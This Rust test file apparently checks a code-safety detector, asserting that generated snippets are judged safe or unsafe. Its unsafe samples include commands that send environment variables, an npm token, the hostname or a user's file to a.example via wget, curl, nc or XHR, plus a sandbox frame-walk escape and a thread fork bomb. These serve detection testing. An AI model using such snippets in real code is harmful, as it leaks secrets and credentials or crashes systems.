//! Clients of providers, pages that listen to what is typed, commands that carry data out, and
//! libraries that are wrapped; and the same at honest work.

mod judging;

use judging::{all_safe, is_unsafe};

/// Every line of the table, as a method of an object that nobody knows.
#[test]
fn every_line_of_the_services_is_found() {
    let mut count = 0;
    for line in include_str!("../rules/services.list").lines() {
        let mut words = line.split_ascii_whitespace();
        let (Some(name), Some(rule)) = (words.next(), words.next()) else {
            continue;
        };
        if name.starts_with('#') {
            continue;
        }
        let holds = words.next().unwrap_or("x").replace('"', "\\\"");
        let name = name.replace('*', "pods");
        let python =
            format!("def f(client):\n    client.{name}(Options=[{{'Value': \"{holds}\"}}])\n");
        is_unsafe("python", &python, rule);
        let pascal: String = name
            .split('_')
            .map(|word| word[..1].to_uppercase() + &word[1..])
            .collect();
        let javascript =
            format!("client.send(new sdk.{pascal}Command({{ value: \"{holds}\" }}));\n");
        is_unsafe("javascript", &javascript, rule);
        let go = format!(
            "package main\n\nfunc f(c *Client) {{\n\tc.{pascal}(ctx, &Input{{Value: \"{holds}\"}})\n}}\n"
        );
        is_unsafe("go", &go, rule);
        count += 1;
    }
    assert!(count > 40, "{count}");
    all_safe(
        "python",
        &[
            "def f(client):\n    client.copy_object(Bucket='b', Key='k', CopySource='b/old')\n",
            "def f(client):\n    client.create_access('key')\n    client.describe_instances()\n",
        ],
    );
}

#[test]
fn pages_that_listen_to_all_that_is_typed() {
    let leaves = "exfiltration";
    all_safe(
        "javascript",
        &[
            // The page's own server.
            "const pw = document.querySelector('#password').value;\nfetch('/login', { method: 'POST', body: JSON.stringify({ pw }) });\n",
            "const x = new XMLHttpRequest();\nx.open('POST', '/login');\nx.send(document.getElementById('password').value);\n",
            // One field of one form.
            "const q = document.querySelector('#q');\nq.addEventListener('input', e => fetch('https://api.example/find?q=' + e.target.value));\n",
        ],
    );
    is_unsafe(
        "javascript",
        "const x = new XMLHttpRequest();\nx.open('POST', 'https://a.example/in');\nx.send(document.getElementById('password').value);\n",
        leaves,
    );
}

#[test]
fn commands_that_carry_data_out() {
    let leaves = "exfiltration";
    is_unsafe(
        "python",
        "import os, subprocess\nall = '&'.join(k + '=' + v for k, v in os.environ.items())\nsubprocess.run(['wget', '-q', '--post-data', all, 'https://a.example/'])\n",
        leaves,
    );
    is_unsafe(
        "javascript",
        "const { execFileSync } = require('child_process');\nexecFileSync('curl', ['-d', JSON.stringify({ t: process.env.NPM_TOKEN }), 'https://a.example/']);\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import socket, subprocess\nsubprocess.call(['curl', 'https://a.example/?' + socket.gethostname()])\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import os, subprocess\nsubprocess.run(['nc', 'a.example', '80'], input=open('/home/al/notes.txt', 'rb').read())\n",
        leaves,
    );
    all_safe(
        "python",
        &[
            "import os, subprocess\nsubprocess.run(['curl', '-H', 'Authorization: Bearer ' + os.environ['API_TOKEN'], 'https://api.example/v1'])\n",
            "import os, subprocess\nsubprocess.run(['curl', '-u', 'me:' + os.environ['API_PASSWORD'], 'https://api.example/v1'])\n",
            "import subprocess\nsubprocess.run(['curl', '-fsSL', '-o', 'a.tgz', 'https://a.example/a.tgz'])\n",
        ],
    );
}

#[test]
fn ways_around_names_and_frames() {
    all_safe(
        "javascript",
        &["global.require = require;\nglobal.fetch = load;\n"],
    );
    is_unsafe(
        "python",
        "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    e.__traceback__.tb_frame.f_globals['__builtins__'].print('x')\n",
        "sandbox-gadget",
    );
    all_safe(
        "python",
        &["import sys\nprint(sys._getframe(1).f_globals.get('__name__'))\n"],
    );
}

#[test]
fn processes_that_start_themselves() {
    is_unsafe(
        "python",
        "import threading\ndef more():\n    while True:\n        work()\n        threading.Thread(target=more).start()\nmore()\n",
        "fork-bomb",
    );
    all_safe(
        "go",
        &[
            "package main\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tc := exec.Command(\"git\", \"describe\", \"--tags\")\n\tc.Stderr = os.Stderr\n\tc.Run()\n}\n",
        ],
    );
}
